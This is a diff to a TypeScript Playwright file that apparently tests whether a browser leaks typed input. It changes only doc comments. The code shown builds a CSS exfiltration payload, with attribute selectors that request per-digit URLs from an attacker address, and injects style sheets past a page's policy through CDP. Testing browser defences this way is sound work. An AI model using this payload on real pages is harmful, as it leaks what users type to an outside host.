@@ -2,7 +2,7 @@ import type { CDPSession, Frame, Page } from 'playwright'
 import type { AttackPages } from '../attack-pages.ts'
 import { BREACH, type Attack } from '../attack.ts'
 
-/** Rules that ask the attacker for a file for each digit that is shown, and for each that a value begins with. */
+/** Rules that request a file from the attacker for each digit that is shown, and for each that a value begins with. */
 const canary = (address: string): string =>
   Array.from(
     { length: 10 },
@@ -10,7 +10,7 @@ const canary = (address: string): string =>
 input[value^="${digit}"] { background: url(${address}/value-${digit}) !important }`,
   ).join('\n') + '\ninput { font-family: told !important }'
 
-/** Puts a style sheet into a document past its policy, as the extensions of a browser do. */
+/** Adds a style sheet to a document despite its policy, as browser extensions do. */
 async function inject(page: Page, into: Frame | Page, text: string): Promise<CDPSession> {
   const session = await page.context().newCDPSession(into)
   const { frameTree } = await session.send('Page.getFrameTree')
@@ -21,7 +21,7 @@ async function inject(page: Page, into: Frame | Page, text: string): Promise<CDP
   return session
 }
 
-/** Whether such a style sheet in a document tells the attacker what is typed there. */
+/** Whether such a style sheet in a document reveals to the attacker what is typed there. */
 export async function showsDigits(
   { hostile }: AttackPages,
   page: Page,
